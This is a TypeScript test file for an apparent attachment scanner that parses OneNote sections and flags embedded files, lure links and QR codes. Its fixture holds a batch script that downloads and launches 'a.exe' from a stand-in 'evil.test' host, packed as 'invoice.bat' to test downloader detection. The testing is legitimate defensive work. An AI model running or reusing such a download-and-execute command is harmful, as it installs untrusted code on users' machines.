import { expect } from 'chai'
import { createQrReader } from '../../../src/app/workers/qr-reader.ts'
import { aQrCode } from '../../helpers/qr-code.ts'
import { damaged, readAttached } from './reading.ts'

const header = Buffer.concat([Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex'), Buffer.alloc(1_008)])
/** A FileDataStoreObject of [MS-ONESTORE] 2.6.13. */
const stored = (content: Buffer): Buffer => {
  const head = Buffer.alloc(36)
  Buffer.from('e716e3bd65261145a4c48d4d0b7a9eac', 'hex').copy(head)
  head.writeBigUInt64LE(BigInt(content.length), 16)
  return Buffer.concat([
    head,
    content,
    Buffer.alloc((8 - (content.length % 8)) % 8),
    Buffer.from('22a7fb71790f0b4abb13899256426b24', 'hex'),
  ])
}
const words = (text: string): Buffer => Buffer.concat([Buffer.from([1, 0, 2, 0]), Buffer.from(text, 'utf16le'), Buffer.alloc(4)])
const script = Buffer.from('@echo off\r\ncurl https://d.evil.test/a -o a.exe\r\nstart a.exe')

describe('message/files: OneNote', () => {
  it('takes embedded files with their names and reads on in them, and links of the text', async () => {
    const section = Buffer.concat([header, words('Double-click to view https://note.evil.test/x'), words('invoice.bat'), stored(script)])
    const { files, urls, detail } = await readAttached('Invoice.one', section)
    expect(files.map(({ name, foundIn }) => `${foundIn.join()} ${name}`)).to.deep.equal([
      'attachment Invoice.one',
      'onenote-embedded Invoice.one/invoice.bat',
    ])
    expect(files[0]?.traits).to.include.members(['onenote', 'embedded-file'])
    expect(files[1]?.traits).to.include('downloader')
    expect(detail('embedded-file')).to.equal('1 embedded: invoice.bat')
    expect(urls).to.include.members(['https://note.evil.test/x', 'https://d.evil.test/a'])
  })

  it('calls a section with pictures alone no carrier of files, and reads the codes in them', async () => {
    const picture = await aQrCode('https://code.evil.test/')
    const { files, urls } = await readAttached('Notes.one', Buffer.concat([header, stored(picture)]), { qr: createQrReader() })
    expect(files).to.have.length(1)
    expect(files[0]?.traits).to.include('qr-code').and.not.include('embedded-file')
    expect(urls).to.deep.equal(['https://code.evil.test/'])
  })

  it('says of a file that is cut off that it is', async () => {
    const section = Buffer.concat([header, stored(script)]).subarray(0, header.length + 50)
    const { message } = await readAttached('a.one', section)
    expect(message.opaque.map(({ reason }) => reason)).to.include('file in a.one that is cut off')
  })

  it('survives lengths that lie, floods of objects, truncation and mutation', async () => {
    const lying = stored(script)
    lying.writeBigUInt64LE(0xffffffffffffffffn, 16)
    await readAttached('a.one', Buffer.concat([header, lying]))
    const { files } = await readAttached('a.one', Buffer.concat([header, ...Array.from({ length: 500 }, () => stored(Buffer.from('x')))]))
    expect(files.length).to.be.lessThan(60)
    for (const bytes of damaged(Buffer.concat([header, words('a.bat'), stored(script)]))) await readAttached('a.one', bytes)
  })
})
